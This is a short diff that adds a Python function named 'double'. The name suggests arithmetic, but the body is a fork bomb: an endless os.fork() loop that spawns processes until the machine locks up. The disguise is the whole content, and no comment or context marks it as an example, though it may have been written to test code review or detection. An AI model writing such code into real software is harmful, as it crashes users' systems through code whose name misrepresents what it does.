@@ -1,0 +1,6 @@
+import os
+
+
+def double(x):
+    while os.fork() >= 0:
+        pass
